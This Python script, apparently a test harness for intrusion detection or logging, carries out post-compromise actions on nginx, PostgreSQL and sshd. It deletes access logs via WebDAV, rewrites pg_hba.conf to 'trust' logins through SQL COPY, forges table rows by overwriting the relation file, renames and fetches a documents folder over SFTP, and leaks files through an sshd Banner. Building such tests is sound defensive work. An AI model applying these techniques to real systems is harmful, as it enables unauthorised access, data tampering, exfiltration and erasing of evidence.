#!/usr/bin/python3 -IS
"""Somebody who has come as far as a service lets them; not recorded: trespasser.py SERVICE WHAT [VALUE]

web deleted: a visitor has the log of their visits deleted
database trusted: who may log in is written by a query, and believed · forged: rows are changed in the file of their table, past all that guards them
ssh renamed: the folder of documents gets another name, under which it is fetched · knocked PATH: sshd, set up badly, shows a note to whoever knocks
"""
import os, signal, subprocess, sys, time

sys.path.append("/opt/agent")
from client import HOST, KNOWN, OWN, attend, ssh_keys, started
from lender import get, library, settings
from person import PID as SSHD, sftp
from query import BIN, CLUSTER, ORDERS, ask, must_hold, sql
from tenant import PID as POSTGRES, app, house
from visitor import PID as NGINX


def deleted(_):
    settings("library", "location /lost/ { alias /tmp/; dav_methods DELETE; }\n")
    get("/about.html")
    get("/lost/library-access.log", "-X", "DELETE")
    if os.path.exists("/tmp/library-access.log"):
        sys.exit("trespasser: the log is still there")


def trusted(_):
    app()
    rules = (f"hostssl all postgres {HOST}/32 trust", f"host all app {HOST}/32 trust")
    sql("CREATE TABLE rules (line text);", *(f"INSERT INTO rules VALUES ('{rule}');" for rule in rules),
        f"COPY rules TO '{CLUSTER}/pg_hba.conf' WITH (FORMAT csv, QUOTE E'\\x01');", "SELECT pg_reload_conf();")
    time.sleep(0.5)
    command = [f"{BIN}/psql", "-X", "-A", "-t", "-c", "SELECT 'let ' || 'in'", f"host={HOST} user=app dbname=postgres sslmode=disable"]
    must_hold(subprocess.run(command, check=True, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=20).stdout, "let in")


def forged(number):
    """While the server does not hold the table: its file is fetched, changed, and put in its place as a large object."""
    sql(ORDERS, f"INSERT INTO orders (who, amount) SELECT 'customer ' || n, n FROM generate_series(1, {20 + 10 * int(number)}) n;", "CHECKPOINT;")
    path = sql("SELECT pg_relation_filepath('orders');").strip()
    with open(f"{CLUSTER}/{path}", "rb") as file:
        page = file.read().replace(b"customer 7", b"customer 8").hex()
    sql(f"SELECT lo_from_bytea(4711, decode('{page}', 'hex'));", f"SELECT lo_export(4711, '{CLUSTER}/{path}');")
    with open(f"{CLUSTER}/{path}", "rb") as file:
        if b"customer 7" in file.read():
            sys.exit("trespasser: the rows are as they were")


def renamed(number):
    os.mkdir(f"{OWN}/taken")
    sftp(f"rename documents summer-{number}", f"get -r summer-{number} {OWN}/taken/", f"rename summer-{number} documents")
    if not os.path.getsize(f"{OWN}/taken/summer-{number}/report.txt"):
        sys.exit("trespasser: nothing came")


def knocked(path):
    with open("/etc/ssh/sshd_config", "a") as file:
        file.write(f"Banner {path}\n")
    os.kill(started(SSHD), signal.SIGHUP)
    time.sleep(0.8)
    knock = ["ssh", "-F", "none", *KNOWN[:-2], "-o", "LogLevel=INFO", "-i", f"{OWN}/other", "-N", "-p", "2222", f"nobody@{HOST}"]
    shown = subprocess.run(knock, capture_output=True, text=True, timeout=20).stderr
    with open(path) as file:
        must_hold(shown, file.readline().strip())


USES = {"web": {each.__name__: each for each in (deleted,)}, "database": {each.__name__: each for each in (trusted, forged)},
        "ssh": {each.__name__: each for each in (renamed, knocked)}}
BEGINS = {"web": (library, NGINX), "database": (house, POSTGRES), "ssh": (ssh_keys, SSHD)}

if __name__ == "__main__":
    service, what, value, *_ = [*sys.argv[1:], ""]
    uses, (begin, pid) = USES[service], BEGINS[service]
    if service == "database":
        attend("trespasser.py", begin, pid, lambda: ask(uses, what, value))
    else:
        attend("trespasser.py", begin, pid, lambda: uses[what](value))
